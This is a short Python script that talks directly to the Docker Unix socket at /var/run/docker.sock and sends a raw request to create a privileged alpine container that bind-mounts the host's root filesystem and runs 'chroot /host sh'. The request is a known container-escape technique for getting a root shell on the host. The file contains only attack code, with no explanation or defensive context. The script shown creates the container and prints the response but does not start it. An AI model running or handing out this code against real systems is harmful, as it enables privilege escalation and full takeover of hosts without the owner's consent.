import socket
import json

SOCK = "/var/run/docker.sock"
body = json.dumps({"Image": "alpine", "Cmd": ["chroot", "/host", "sh"],
                   "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(SOCK)
req = "POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
s.sendall(req.encode())
print(s.recv(65536).decode())
